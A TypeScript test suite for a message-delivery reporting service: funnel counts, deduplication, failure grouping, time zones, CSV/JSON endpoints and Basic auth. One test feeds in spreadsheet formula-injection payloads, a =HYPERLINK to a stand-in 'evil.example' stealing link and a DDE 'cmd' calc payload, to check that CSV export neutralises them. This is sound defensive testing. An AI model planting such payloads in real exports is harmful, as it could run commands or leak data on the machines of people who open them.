// Reports on a hand-built set of events sent through the real endpoints: duplicates, out-of-order
// arrival, machine opens and clicks, a relayed metric and its webhook echo. Every number is exact.
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { after, before, describe, it } from "node:test";
import { parse } from "csv-parse/sync";
import { promisify } from "node:util";
import { messageEvent } from "../../scripts/lib/sample-events.js";
import { PROJECT_ROOT } from "../../src/core/paths.js";
import { parseFilters } from "../../src/reports/report-query.js";
import * as reports from "../../src/reports/reports.repository.js";
import { createTestDatabase, type TestDatabase } from "../helpers/database.js";
import { startTestService, type TestService } from "../helpers/service.js";

let db: TestDatabase;
let svc: TestService;

const DAY = Date.parse("2026-11-10T00:00:00Z") / 1000;
const at = (hours: number) => DAY + hours * 3600;
const CAMPAIGN = { campaign_id: 77, action_id: 770 };
const RETRIED = { campaign_id: 78, action_id: 780 };
const A = "https://example.com/a";
const B = "https://example.com/b";

type Step = [metric: string, hour: number, extra?: Record<string, unknown>];
const plan: Array<{ id: string; channel: string; origin: Record<string, unknown>; steps: Step[] }> = [
  { id: "r-d1", channel: "email", origin: CAMPAIGN, steps: [["sent", 1], ["delivered", 1.1], ["opened", 2, { prefetched: false }], ["opened", 3, { prefetched: false }], ["clicked", 2.5, { href: A, machine: false }], ["converted", 4]] },
  { id: "r-d2", channel: "email", origin: CAMPAIGN, steps: [["sent", 1], ["delivered", 1.1], ["opened", 1.2, { prefetched: true }]] },
  { id: "r-d3", channel: "email", origin: CAMPAIGN, steps: [["sent", 1], ["bounced", 1.1, { failure_message: "550 5.1.1 <a@x.com>: user unknown" }]] },
  // Out of order: the clicks arrive before delivered; one click is a link scanner's.
  { id: "r-d4", channel: "email", origin: CAMPAIGN, steps: [["clicked", 3, { href: B, machine: true }], ["clicked", 3.5, { href: A, machine: false }], ["sent", 1], ["delivered", 1.1]] },
  // Out of order: delivered before sent; then an unsubscribe.
  { id: "r-d5", channel: "email", origin: CAMPAIGN, steps: [["delivered", 1.1], ["sent", 1], ["unsubscribed", 5]] },
  { id: "r-d7", channel: "email", origin: CAMPAIGN, steps: [["sent", 1], ["bounced", 1.2, { failure_message: "550-5.1.1 <b@y.com>: User unknown" }]] },
  { id: "r-d8", channel: "sms", origin: { campaign_id: 77, action_id: 771 }, steps: [["sent", 6], ["failed", 6.1, { failure_message: "Invalid phone number" }]] },
  // Another day: outside the range.
  { id: "r-d9", channel: "email", origin: CAMPAIGN, steps: [["sent", 48]] },
  { id: "r-d6", channel: "push", origin: { newsletter_id: 5, action_id: 50 }, steps: [["sent", 2], ["delivered", 2.1]] },
  // Another campaign's failures: two attempts Customer.io retried and then delivered, one still being
  // retried, and one that ended bounced after a deferral.
  { id: "r-t1", channel: "email", origin: RETRIED, steps: [["attempted", 1, { failure_message: "421 4.7.0 Try again later" }], ["sent", 1.5], ["delivered", 1.6]] },
  { id: "r-t2", channel: "email", origin: RETRIED, steps: [["attempted", 1, { failure_message: "421-4.7.0 try again LATER" }], ["sent", 1.5], ["delivered", 1.6], ["opened", 2]] },
  { id: "r-t3", channel: "email", origin: RETRIED, steps: [["attempted", 1, { failure_message: "421 4.7.0 Try again later" }]] },
  { id: "r-t4", channel: "email", origin: RETRIED, steps: [["deferred", 1, { failure_message: "451 4.3.0 Mailbox busy" }], ["bounced", 3, { failure_message: "550 5.2.1 Mailbox disabled" }]] },
];
const range: reports.Filters = { from: "2026-11-10", to: "2026-11-10" };
const campaign: reports.Filters = { ...range, originType: "campaign", originId: "77" };

before(async () => {
  db = await createTestDatabase();
  svc = await startTestService(db.url, { REPORTER_ENABLED: "false" });
  for (const d of plan) {
    for (const [metric, hour, extra] of d.steps) {
      const event = messageEvent({ objectType: d.channel, metric, deliveryId: d.id, timestamp: at(hour), origin: d.origin, eventId: `${d.id}-${metric}-${hour}` });
      Object.assign(event["data"] as object, extra ?? {});
      if (metric === "clicked" && !extra?.["href"]) delete (event["data"] as Record<string, unknown>)["href"];
      assert.equal((await svc.webhook(event)).status, 200);
      // Customer.io retries: every event arrives twice.
      assert.equal((await svc.webhook(event)).json["duplicate"], true);
    }
  }
  // A push open reported by the app through the relay, then echoed back by Customer.io as a webhook.
  assert.equal((await svc.post("/push/events", { delivery_id: "r-d6", event: "opened", device_id: "tok", timestamp: at(3) })).status, 200);
  const echo = messageEvent({ objectType: "push", metric: "opened", deliveryId: "r-d6", timestamp: at(3), origin: { newsletter_id: 5, action_id: 50 }, eventId: "r-d6-echo" });
  assert.equal((await svc.webhook(echo)).status, 200);
});
after(async () => {
  await svc.stop();
  await db.drop();
});

describe("reports", () => {
  it("counts the campaign's funnel exactly: duplicates, out-of-order and machine activity included", async () => {
    const [row] = await reports.funnel(db.pool, campaign);
    assert.deepEqual(row, {
      deliveries: 7, sent: 7, delivered: 4, opened: 2, human_opened: 1, clicked: 2, human_clicked: 2, converted: 1, replied: 0,
      bounced: 2, failed: 1, undeliverable: 0, dropped: 0, spammed: 0, unsubscribed: 1,
      delivery_rate: 0.5714, open_rate: 0.5, human_open_rate: 0.25, click_rate: 0.5, click_to_open_rate: 2, conversion_rate: 0.25,
      bounce_rate: 0.2857, unsubscribe_rate: 0.25, spam_rate: 0,
    });
    const [fromEvents] = await reports.funnelFromEvents(db.pool, campaign);
    for (const m of reports.MEASURES) assert.equal(fromEvents![m], row![m], `${m}: rollup and delivery_events agree`);
  });

  it("counts a relayed open and its webhook echo once", async () => {
    const [row] = await reports.funnel(db.pool, { ...range, originType: "newsletter", originId: "5" });
    assert.equal(row!["deliveries"], 1);
    assert.equal(row!["opened"], 1);
    assert.equal(row!["human_opened"], 1);
  });

  it("groups by channel, action and day, and matches the view SQL users query", async () => {
    const byChannel = await reports.funnel(db.pool, campaign, ["channel"]);
    assert.deepEqual(byChannel.map((r) => [r["channel"], r["deliveries"], r["sent"]]), [["email", 6, 6], ["sms", 1, 1]]);
    const byAction = await reports.funnel(db.pool, campaign, ["action"]);
    assert.deepEqual(byAction.map((r) => [r["action_id"], r["deliveries"]]), [["770", 6], ["771", 1]]);
    const week = await reports.funnel(db.pool, { from: "2026-11-09", to: "2026-11-12", originType: "campaign", originId: "77" }, ["day"]);
    assert.deepEqual(week.map((r) => [r["day"], r["sent"]]), [["2026-11-10", 7], ["2026-11-12", 1]]);
    const view = await db.query("SELECT sum(sent)::int AS sent, sum(human_clicked)::int AS human_clicked FROM report_funnel_daily WHERE origin_type = 'campaign' AND origin_id = 77 AND day = '2026-11-10'");
    assert.deepEqual(view, [{ sent: 7, human_clicked: 2 }]);
  });

  it("ranks links by the deliveries that clicked them, with clicks and human clicks", async () => {
    const rows = await reports.links(db.pool, campaign, { limit: 10, offset: 0 });
    assert.deepEqual(rows, [
      { href: A, deliveries: 2, clicks: 2, human_clicks: 2 },
      { href: B, deliveries: 1, clicks: 1, human_clicks: 0 },
    ]);
  });

  it("groups failure reasons, normalizing SMTP variants and addresses", async () => {
    const rows = await reports.failures(db.pool, campaign, { limit: 10, offset: 0 });
    assert.deepEqual(rows.map((r) => [r["kind"], r["reason"], r["status"], r["deliveries"]]), [
      ["final", "550 5.1.1 <address>: user unknown", "bounced", 2],
      ["final", "invalid phone number", "failed", 1],
    ]);
  });

  it("tells final failures from transient ones: attempted and then delivered is not a final failure", async () => {
    const retried: reports.Filters = { ...range, originType: "campaign", originId: "78" };
    const rows = await reports.failures(db.pool, retried, { limit: 10, offset: 0 });
    assert.deepEqual(rows.map((r) => [r["kind"], r["reason"], r["status"], r["deliveries"]]), [
      ["final", "550 5.2.1 mailbox disabled", "bounced", 1],
      ["transient", "421 4.7.0 try again later", "attempted", 1],
      ["transient", "421 4.7.0 try again later", "delivered", 1],
      ["transient", "421 4.7.0 try again later", "opened", 1],
    ]);
    const final = await reports.failures(db.pool, retried, { limit: 10, offset: 0 }, "final");
    assert.deepEqual(final.map((r) => r["reason"]), ["550 5.2.1 mailbox disabled"], "the retried-then-delivered attempts are not final failures");
    const transient = await reports.failures(db.pool, retried, { limit: 10, offset: 0 }, "transient");
    assert.equal(transient.reduce((sum, r) => sum + Number(r["deliveries"]), 0), 3);
    const view = await db.query("SELECT kind, status, deliveries FROM report_failure_reasons_daily WHERE origin_id = 78 ORDER BY kind, status");
    assert.deepEqual(view, [
      { kind: "final", status: "bounced", deliveries: 1 },
      { kind: "transient", status: "attempted", deliveries: 1 },
      { kind: "transient", status: "delivered", deliveries: 1 },
      { kind: "transient", status: "opened", deliveries: 1 },
    ]);
  });

  it("shows one delivery's timeline in time order and one person's deliveries", async () => {
    const found = await reports.deliveryTimeline(db.pool, "r-d4");
    assert.deepEqual(found!.events.map((e) => e["metric"]), ["sent", "delivered", "clicked", "clicked"]);
    assert.equal(found!.delivery["status"], "clicked");
    const mine = await reports.personDeliveries(db.pool, "email", "test@example.com", { limit: 100, offset: 0 });
    assert.equal(mine.length, 13);
    assert.equal(mine[0]!["delivery_id"], "r-d9", "newest first");
  });

  it("counts days in the report time zone, and rebuilds the rollup when it changes", async () => {
    const client = await db.pool.connect();
    try {
      await reports.setReportTimezone(client, "America/New_York");
      // Sent at 01:00 UTC on the 10th = 20:00 on the 9th in New York; the SMS at 06:00 UTC stays on the 10th.
      const days = await reports.funnel(db.pool, { from: "2026-11-09", to: "2026-11-10", originType: "campaign", originId: "77" }, ["day"]);
      assert.deepEqual(days.map((r) => [r["day"], r["sent"]]), [["2026-11-09", 6], ["2026-11-10", 1]]);
      await assert.rejects(reports.setReportTimezone(client, "Mars/Olympus_Mons"));
      await reports.setReportTimezone(client, "UTC");
      assert.equal((await reports.funnel(db.pool, campaign))[0]!["sent"], 7);
    } finally {
      client.release();
    }
  });

  it("ends the default range today in the report time zone: 08:00 in Tokyo is already Tokyo's tomorrow in UTC terms", async () => {
    // Sent at 23:00 UTC on the 10th: 08:00 on the 11th in Tokyo.
    const sentAt = Date.parse("2026-11-10T23:00:00Z");
    const event = messageEvent({ objectType: "email", metric: "sent", deliveryId: "r-tokyo", timestamp: sentAt / 1000, origin: { campaign_id: 79, action_id: 790 }, eventId: "r-tokyo-sent" });
    assert.equal((await svc.webhook(event)).status, 200);
    const client = await db.pool.connect();
    try {
      await reports.setReportTimezone(client, "Asia/Tokyo");
      const clock = await reports.reportClock(db.pool, new Date(sentAt));
      assert.deepEqual(clock, { timezone: "Asia/Tokyo", today: "2026-11-11" });
      const filters = parseFilters({ campaign: "79" }, clock.today);
      assert.deepEqual([filters.from, filters.to], ["2026-10-13", "2026-11-11"], "30 days ending today in Tokyo");
      assert.equal((await reports.funnel(db.pool, filters))[0]!["sent"], 1, "today's delivery is in the default range");
      // What a UTC "today" would have shown at that moment: the range ends before Tokyo's today.
      assert.equal((await reports.funnel(db.pool, parseFilters({ campaign: "79" }, "2026-11-10")))[0]!["sent"], 0);
    } finally {
      await reports.setReportTimezone(client, "UTC");
      client.release();
    }
  });

  it("keeps the rollup equal to a full recomputation after replay", async () => {
    const before = await db.query("SELECT * FROM delivery_stats_daily ORDER BY day, channel, origin_type, origin_id, action_id");
    const { replayProjections } = await import("../../src/events/replay.js");
    await replayProjections(db.pool);
    const after = await db.query("SELECT * FROM delivery_stats_daily ORDER BY day, channel, origin_type, origin_id, action_id");
    assert.deepEqual(after, before);
    await db.query("SELECT cio_rebuild_delivery_stats()");
    assert.deepEqual(await db.query("SELECT * FROM delivery_stats_daily ORDER BY day, channel, origin_type, origin_id, action_id"), before);
  });
});

describe("reports API", () => {
  const get = async (path: string, headers: Record<string, string> = {}) => {
    const res = await fetch(`${svc.adminUrl}${path}`, { headers });
    return { status: res.status, type: res.headers.get("content-type") ?? "", text: await res.text() };
  };

  it("serves the funnel as JSON and CSV with filters and grouping", async () => {
    const json = await get("/reports/api/funnel?from=2026-11-10&to=2026-11-10&campaign=77&group_by=channel");
    assert.equal(json.status, 200);
    const body = JSON.parse(json.text) as { timezone: string; rows: Array<Record<string, unknown>> };
    assert.equal(body.timezone, "UTC");
    assert.deepEqual(body.rows.map((r) => [r["channel"], r["sent"]]), [["email", 6], ["sms", 1]]);
    const csv = await get("/reports/api/funnel?from=2026-11-10&to=2026-11-10&campaign=77&format=csv");
    assert.match(csv.type, /text\/csv/);
    const [header, line] = csv.text.trim().split("\n");
    assert.equal(header!.split(",")[0], "deliveries");
    assert.equal(line!.split(",")[0], "7");
    const accept = await get("/reports/api/failures?from=2026-11-10&to=2026-11-10", { accept: "text/csv" });
    assert.match(accept.text, /^kind,reason,status,deliveries,example\n/);
    const final = JSON.parse((await get("/reports/api/failures?from=2026-11-10&to=2026-11-10&campaign=78&kind=final")).text) as { rows: Array<Record<string, unknown>> };
    assert.deepEqual(final.rows.map((r) => [r["kind"], r["status"]]), [["final", "bounced"]]);
    const bad = await get("/reports/api/failures?kind=soft");
    assert.equal(bad.status, 400);
    assert.match(bad.text, /kind must be one of final, transient/);
  });

  it("answers the default range up to today in the report time zone, where the date is not UTC's", async () => {
    // A zone whose date differs from UTC's right now: UTC+14 from 10:00 UTC on, UTC-11 before 11:00 UTC.
    const zone = new Date().getUTCHours() >= 10 ? "Pacific/Kiritimati" : "Pacific/Pago_Pago";
    const localToday = () => new Intl.DateTimeFormat("en-CA", { timeZone: zone, year: "numeric", month: "2-digit", day: "2-digit" }).format(new Date());
    const client = await db.pool.connect();
    try {
      await reports.setReportTimezone(client, zone);
      const expected = localToday();
      assert.notEqual(expected, new Date().toISOString().slice(0, 10), `${zone} has another date than UTC now`);
      const body = JSON.parse((await get("/reports/api/funnel")).text) as { timezone: string; filters: { from: string; to: string } };
      assert.equal(body.timezone, zone);
      assert.equal(body.filters.to, expected);
    } finally {
      await reports.setReportTimezone(client, "UTC");
      client.release();
    }
  });

  it("exports CSV that opens as text in a spreadsheet: a clicked =HYPERLINK(...) and a formula-like failure message", async () => {
    const hostileLink = '=HYPERLINK("https://evil.example/?steal=1","Click for your prize")';
    const hostileReason = "@SUM(1+1)*cmd|' /C calc'!A0";
    const person = { id: "csv-person", email: "csv@example.com", cioId: "" };
    const origin = { campaign_id: 80, action_id: 800 };
    const day = Date.parse("2026-11-11T09:00:00Z") / 1000;
    const events = [
      messageEvent({ objectType: "email", metric: "sent", deliveryId: "r-csv-1", timestamp: day, origin, person }),
      messageEvent({ objectType: "email", metric: "clicked", deliveryId: "r-csv-1", timestamp: day + 60, origin, person, extra: { href: hostileLink } }),
      messageEvent({ objectType: "email", metric: "sent", deliveryId: "r-csv-2", timestamp: day, origin, person }),
      messageEvent({ objectType: "email", metric: "bounced", deliveryId: "r-csv-2", timestamp: day + 60, origin, person, extra: { failure_message: hostileReason } }),
    ];
    for (const event of events) assert.equal((await svc.webhook(event)).status, 200);
    const csvOf = async (path: string) => {
      const res = await get(path);
      assert.equal(res.status, 200, path);
      assert.match(res.type, /text\/csv/);
      return parse(res.text, { columns: true }) as Array<Record<string, string>>;
    };
    const range = "from=2026-11-11&to=2026-11-11&campaign=80&format=csv";
    const links = await csvOf(`/reports/api/links?${range}`);
    assert.equal(links[0]!["href"], `'${hostileLink}`, "the link opens as its text, not as a formula");
    const failures = await csvOf(`/reports/api/failures?${range}`);
    assert.equal(failures[0]!["reason"], `'${hostileReason.toLowerCase()}`);
    assert.equal(failures[0]!["example"], `'${hostileReason}`);
    const timeline = await csvOf("/reports/api/deliveries/r-csv-1?format=csv");
    assert.equal(timeline.find((r) => r["metric"] === "clicked")!["href"], `'${hostileLink}`);
    const deliveries = await csvOf("/reports/api/people/email/csv%40example.com/deliveries?format=csv");
    assert.equal(deliveries.find((r) => r["delivery_id"] === "r-csv-2")!["failure_message"], `'${hostileReason}`);
    // JSON stays exact: only the CSV is written for spreadsheets.
    const json = JSON.parse((await get(`/reports/api/links?from=2026-11-11&to=2026-11-11&campaign=80`)).text) as { rows: Array<{ href: string }> };
    assert.equal(json.rows[0]!.href, hostileLink);
  });

  it("paginates long lists", async () => {
    const first = JSON.parse((await get("/reports/api/links?from=2026-11-10&to=2026-11-10&limit=1")).text) as { rows: Array<{ href: string }>; next_offset: number };
    assert.deepEqual([first.rows[0]!.href, first.next_offset], [A, 1]);
    const second = JSON.parse((await get("/reports/api/links?from=2026-11-10&to=2026-11-10&limit=1&offset=1")).text) as { rows: Array<{ href: string }>; next_offset: number | null };
    assert.equal(second.rows[0]!.href, B);
    const people = JSON.parse((await get("/reports/api/people/customer_id/42/deliveries?limit=5")).text) as { rows: unknown[]; next_offset: number };
    assert.deepEqual([people.rows.length, people.next_offset], [5, 5]);
    const timeline = JSON.parse((await get("/reports/api/deliveries/r-d1")).text) as { events: unknown[] };
    assert.equal(timeline.events.length, 6);
    assert.equal((await get("/reports/api/deliveries/nope")).status, 404);
  });

  it("names every bad parameter", async () => {
    const res = await get("/reports/api/funnel?from=yesterday&channel=fax&campaign=x&group_by=week");
    assert.equal(res.status, 400);
    const body = JSON.parse(res.text) as { problems: string[] };
    assert.equal(body.problems.length, 4, JSON.stringify(body.problems));
    for (const name of ["from", "channel", "campaign", "group_by"]) assert.ok(body.problems.some((p) => p.startsWith(name)), name);
    for (const dates of ["to=someday", "from=2026-02-30", "to=2026-04-31"]) {
      const dated = await get(`/reports/api/funnel?${dates}`);
      assert.equal(dated.status, 400, `${dates}: named, not a 500`);
    }
    const paging = await get("/reports/api/links?limit=5000&offset=-1");
    assert.equal((JSON.parse(paging.text) as { problems: string[] }).problems.length, 2);
  });

  it("describes every endpoint in OpenAPI", async () => {
    const doc = JSON.parse((await get("/reports/api/openapi.json")).text) as { openapi: string; paths: Record<string, unknown> };
    assert.equal(doc.openapi, "3.1.0");
    for (const p of ["/reports/api/funnel", "/reports/api/links", "/reports/api/failures", "/reports/api/origins", "/reports/api/deliveries/{delivery_id}", "/reports/api/people/{by}/{value}/deliveries", "/reports/api/reconciliation", "/reports"]) {
      assert.ok(doc.paths[p], p);
    }
  });

  it("without REPORTS_CREDENTIALS: the admin listener serves this machine only, the public one no reports at all", async () => {
    assert.equal((await get("/reports/api/funnel")).status, 200);
    const proxied: Array<Record<string, string>> = [{ "x-forwarded-for": "203.0.113.7" }, { forwarded: "for=203.0.113.7" }];
    for (const header of proxied) {
      const res = await get("/reports", header);
      assert.equal(res.status, 403);
      assert.match(res.text, /REPORTS_CREDENTIALS/);
    }
    // The public listener, from this very machine: nothing, and a 404 that says where reports are.
    for (const path of ["/reports", "/reports/", "/reports/api/funnel", "/reports/api/openapi.json", "/reports/api/people/email/test%40example.com/deliveries", "/reports/api/deliveries/r-d1?format=csv"]) {
      const res = await fetch(`${svc.url}${path}`);
      const text = await res.text();
      assert.equal(res.status, 404, path);
      assert.match(text, /admin listener/, path);
      assert.doesNotMatch(text, /test@example\.com|r-d1/, `${path}: nothing personal`);
    }
    const page = await fetch(`${svc.url}/reports`, { headers: { accept: "text/html" } });
    assert.match(page.headers.get("content-type") ?? "", /text\/html/, "a browser gets a page");
  });

  it("with REPORTS_CREDENTIALS: Basic auth on both listeners, and the public one serves reports only with it", async () => {
    const local = await startTestService(db.url, { REPORTER_ENABLED: "false", REPORTS_CREDENTIALS: "analyst:pw" });
    const basic = (pair: string) => ({ authorization: `Basic ${Buffer.from(pair).toString("base64")}` });
    try {
      for (const base of [local.url, local.adminUrl]) {
        const refused = await fetch(`${base}/reports/api/funnel`);
        assert.equal(refused.status, 401, base);
        assert.match(refused.headers.get("www-authenticate") ?? "", /^Basic realm="reports"/);
        assert.equal((await fetch(`${base}/reports/api/funnel`, { headers: basic("analyst:wrong") })).status, 401);
        const ok = await fetch(`${base}/reports/api/funnel?from=2026-11-10&to=2026-11-10&campaign=77`, { headers: basic("analyst:pw") });
        assert.equal(ok.status, 200);
        assert.equal(((await ok.json()) as { rows: Array<{ sent: number }> }).rows[0]!.sent, 7);
        assert.equal((await fetch(`${base}/reports`)).status, 401, "the dashboard too");
        assert.equal((await fetch(`${base}/reports/api/openapi.json`)).status, 401, "and the OpenAPI document");
      }
      // The reports' credentials guard the reports only.
      assert.equal((await fetch(`${local.url}/healthz`)).status, 200);
      assert.equal((await local.webhook(messageEvent({ objectType: "email", metric: "sent", deliveryId: "r-auth-check" }))).status, 200);
      assert.equal((await fetch(`${local.url}/unsubscribe/r-auth-check`)).status, 200);
    } finally {
      await local.stop();
    }
  });

  it("runs as `npm run report` in a terminal", async () => {
    const run = (...args: string[]) => promisify(execFile)(process.execPath, ["--import", "tsx", "scripts/report.ts", ...args], { cwd: PROJECT_ROOT, env: { ...process.env, DATABASE_URL: db.url } });
    const table = await run("funnel", "--from", "2026-11-10", "--to", "2026-11-10", "--campaign", "77");
    assert.match(table.stdout, /Funnel 2026-11-10 to 2026-11-10 \(days in UTC\)/);
    assert.match(table.stdout, /deliveries\s+sent\s+delivered/);
    const csv = await run("failures", "--from", "2026-11-10", "--to", "2026-11-10", "--format", "csv");
    assert.match(csv.stdout, /550 5\.1\.1 <address>: user unknown,bounced,2,/);
    const json = await run("delivery", "r-d5", "--format", "json");
    assert.equal((JSON.parse(json.stdout) as { delivery: { status: string } }).delivery.status, "unsubscribed");
    await assert.rejects(run("funnel", "--from", "nope"), /from must be a date/);
  });
});
